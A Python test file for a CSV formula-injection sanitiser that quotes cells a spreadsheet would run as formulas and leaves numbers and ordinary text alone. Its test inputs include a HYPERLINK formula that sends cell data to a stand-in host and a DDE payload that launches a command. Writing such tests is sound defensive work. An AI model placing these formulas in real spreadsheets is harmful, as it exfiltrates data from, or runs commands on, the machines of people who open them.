"""CSV cells for people's spreadsheets: text that would run as a formula is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from kayisu.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"open")',
        "+1+1",
        "-2+3",
        "-1e3",
        "-",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-1990, 0, 1990, "-1990", "+1990", "-19.90", "19.90", "0"])
def test_numbers_and_text_that_is_only_a_number_stay_as_they_are(number: object) -> None:
    # A refund of -1990 is a number in the sheet, not the text '-1990.
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["", "ord_1f2e3d", "txn_=1", "a@b.example", " =1", "2026-11-24 23:59:59", "'=1"])
def test_other_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_a_written_row_reads_back_as_text_for_formulas_and_as_is_for_the_rest() -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(safe_row(["movement", "=1+1", -1990, "-19.90", None, "a,b"]))
    assert out.getvalue() == 'movement,\'=1+1,-1990,-19.90,,"a,b"\r\n'
